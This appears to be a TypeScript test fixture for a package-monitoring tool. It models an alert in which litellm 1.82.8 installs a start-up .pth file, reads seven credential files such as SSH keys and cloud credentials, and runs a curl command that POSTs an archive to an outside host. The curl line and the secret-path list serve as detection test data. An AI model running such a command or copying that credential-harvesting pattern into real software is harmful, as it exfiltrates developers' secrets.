import type { Alert, TimelineEntry } from '../../src/api/types.ts';
import { aiocpaAlert } from './aiocpa.ts';
import { activity, entry, process, startMs, summary, version } from './fixtures.ts';

/** A crowded one: litellm 1.82.8, whose start-up file reads every secret and starts curl, behind conduits. */

const culprit = { name: 'litellm', version: '1.82.8' };
const chain = [
  { name: 'httpcore', version: '1.0.9' },
  { name: 'httpx', version: '0.28.1' },
  culprit,
  { name: 'langchain', version: '1.2.0' },
];
const secrets = [
  ['~/.ssh/id_ed25519', 'ssh-key'],
  ['~/.aws/credentials', 'cloud-credential'],
  ['~/.config/gcloud/application_default_credentials.json', 'cloud-credential'],
  ['~/.kube/config', 'kube-config'],
  ['~/.docker/config.json', 'docker-config'],
  ['~/.bash_history', 'shell-history'],
  ['~/.git-credentials', 'git-credential'],
] as const;

const began = startMs + 20 * 86_400_000;
const change = entry({
  atMs: began - 2 * 86_400_000,
  operation: 'package.change',
  target: 'litellm',
  process: null,
  package: culprit,
  change: { kind: 'upgraded', from: '1.82.6', to: '1.82.8', installer: 'pip', effect: null, review: null },
});
const startup = entry(
  {
    atMs: began - 2 * 86_400_000 + 300,
    operation: 'startup.change',
    target: '~/agents/.venv/lib/python3.12/site-packages/litellm_init.pth',
    process: null,
    package: culprit,
    change: { kind: 'added', from: null, to: null, installer: null, effect: null, review: null },
  },
  true,
);
const reads: TimelineEntry[] = secrets.map(([target, targetClass], i) =>
  entry(
    {
      atMs: began + 40 + i * 9,
      operation: 'file.open',
      access: 'read',
      target,
      targetClass,
      package: culprit,
      chain: [culprit],
    },
    true,
  ),
);
const noise: TimelineEntry[] = Array.from({ length: 120 }, (_, i) =>
  entry({
    atMs: began + 150 + i * 31,
    operation: 'file.open',
    access: 'read',
    target: `~/projects/service-${i}/pyproject.toml`,
    package: culprit,
    chain: [culprit],
  }),
);
const spawn = entry(
  {
    atMs: began + 4200,
    operation: 'process.spawn',
    target: '/usr/bin/curl',
    other: 'curl -s -X POST -H X-Filename:tpcp.tar.gz --data-binary @- https://models.litellm.cloud/',
    package: culprit,
    chain: [culprit],
  },
  true,
);
const connect = entry(
  {
    atMs: began + 4300,
    target: 'models.litellm.cloud',
    port: 443,
    ip: '2606:4700:3035::ac43:d0ec',
    via: 'proxy.example.test:3128',
    confidence: 'cause',
    package: culprit,
    chain,
  },
  true,
);
const timeline = [change, startup, ...reads, ...noise, spawn, connect];

export const litellmAlert: Alert = {
  ...aiocpaAlert,
  ...summary({
    id: 'litellm',
    severity: 'critical',
    sentence: 'litellm 1.82.8 read 7 secrets of 6 unrelated kinds within 60 ms, then started curl.',
    package: culprit,
    machine: { id: 'm2', name: 'ws-017' },
    firstMs: began,
    lastMs: began + 4300,
  }),
  rule: { ...aiocpaAlert.rule, id: 'secrets-then-child', title: 'Unrelated secrets, then a way out' },
  environment: '~/agents/.venv',
  chain,
  process: {
    ...process(),
    application: '-m agents.worker',
    command: 'python -m agents.worker',
    startedMs: began,
    python: '3.12.4',
  },
  evidence: timeline.filter(({ deciding }) => deciding).map((row) => row.activity),
  timeline,
  versions: [
    ...Array.from({ length: 30 }, (_, i) => version(`1.${52 + i}.0`)),
    version('1.82.6'),
    version('1.82.8', { behaviours: [{ operation: 'file.open', targetClass: 'ssh-key', firstMs: began, count: 1 }] }),
  ],
  newInVersion: [
    { operation: 'file.open', targetClass: 'ssh-key', firstMs: began, count: 1 },
    { operation: 'startup.change', targetClass: '', firstMs: began, count: 1 },
  ],
};

/** An alert about an environment, of the application itself: no process, no package, no chain. */
export const bareAlert: Alert = {
  ...aiocpaAlert,
  ...summary({ id: 'bare', severity: 'low', sentence: 'A start-up file was added to ~/trader/.venv.', package: null }),
  rule: aiocpaAlert.rule,
  process: null,
  chain: [],
  evidence: [
    activity({
      operation: 'startup.change',
      target: '~/trader/.venv/lib/python3.11/site-packages/x.pth',
      process: null,
      package: null,
      chain: [],
    }),
  ],
  timeline: [],
  versions: [],
  newInVersion: [],
};
